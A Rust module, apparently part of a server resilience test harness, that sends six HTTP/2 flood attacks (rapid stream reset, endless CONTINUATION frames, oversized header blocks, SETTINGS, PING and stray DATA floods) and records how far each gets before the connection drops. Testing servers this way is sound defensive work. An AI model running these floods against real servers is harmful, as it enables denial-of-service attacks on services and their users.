//! Floods of HTTP/2: frames that cost their sender nothing and a careless server much.

use std::net::{IpAddr, SocketAddr};

use testkit::Connection;
use testkit::frames::{END_HEADERS, END_STREAM, Kind, PREFACE, frame, get, header, request};
use tokio::sync::watch;
use tokio::time::timeout;

use super::{Outcomes, PATIENCE, goes_on};

/// Makes the frames of one step.
type Flood = fn(u32) -> Vec<u8>;

const FLOODS: [(&str, Flood); 6] = [
    ("HTTP/2: requests taken back at once", taken_back),
    ("HTTP/2: a head that never ends", endless),
    ("HTTP/2: heads of 100 kB", heads),
    ("HTTP/2: settings to be acknowledged", |_| frame(Kind::Settings, 0, 0, &[])),
    ("HTTP/2: pings to be answered", |number| frame(Kind::Ping, 0, 0, &u64::from(number).to_be_bytes())),
    ("HTTP/2: bodies of nobody", |_| frame(Kind::Data, 0, 1, &[0; 1_000])),
];

/// Frames of one flood: a careless server would have broken down by then.
const STEPS: u32 = 5_000;

/// Sends one flood after the other, each on a connection of its own, until it is over.
pub(super) async fn attack(server: SocketAddr, from: IpAddr, over: watch::Receiver<()>) -> Outcomes {
    let mut outcomes = Outcomes::new();
    while goes_on(&over) {
        for (name, flood) in FLOODS {
            let sent = timeout(PATIENCE, send(server, from, flood, &over)).await.unwrap_or(0);
            let outcome = outcomes.entry(name).or_default();
            outcome.tried += u64::from(sent);
            *outcome.answers.entry(0).or_default() += u64::from(sent < STEPS);
            if !goes_on(&over) {
                break;
            }
        }
    }
    outcomes
}

/// How much was sent before the connection broke.
async fn send(server: SocketAddr, from: IpAddr, flood: Flood, over: &watch::Receiver<()>) -> u32 {
    let Ok(mut connection) = Connection::open_from(from, server).await else { return 0 };
    if connection.send([PREFACE, &frame(Kind::Settings, 0, 0, &[])].concat()).await.is_err() {
        return 0;
    }
    for number in 0..STEPS {
        if connection.send(flood(number)).await.is_err() || !goes_on(over) {
            return number;
        }
    }
    STEPS
}

/// A request, and at once that it is not wanted any more.
fn taken_back(number: u32) -> Vec<u8> {
    let (stream, cancel) = (2 * number + 1, 8_u32);
    [request(stream, "/time/0"), frame(Kind::Reset, 0, stream, &cancel.to_be_bytes())].concat()
}

/// The beginning of a head, and then more of it for ever.
fn endless(number: u32) -> Vec<u8> {
    match number {
        0 => frame(Kind::Headers, END_STREAM, 1, &get("/time/0")),
        number => frame(Kind::Continuation, 0, 1, &header(&format!("x-{number}"), "y")),
    }
}

/// A request with a thousand headers.
fn heads(number: u32) -> Vec<u8> {
    let stream = 2 * number + 1;
    let many: Vec<u8> = (0..1_000).flat_map(|number| header(&format!("x-{number}"), &"y".repeat(100))).collect();
    let parts: Vec<&[u8]> = many.chunks(16_000).collect();
    let mut frames = frame(Kind::Headers, END_STREAM, stream, &get("/time/0"));
    for (number, part) in parts.iter().enumerate() {
        let flags = if number + 1 == parts.len() { END_HEADERS } else { 0 };
        frames.extend(frame(Kind::Continuation, flags, stream, part));
    }
    frames
}
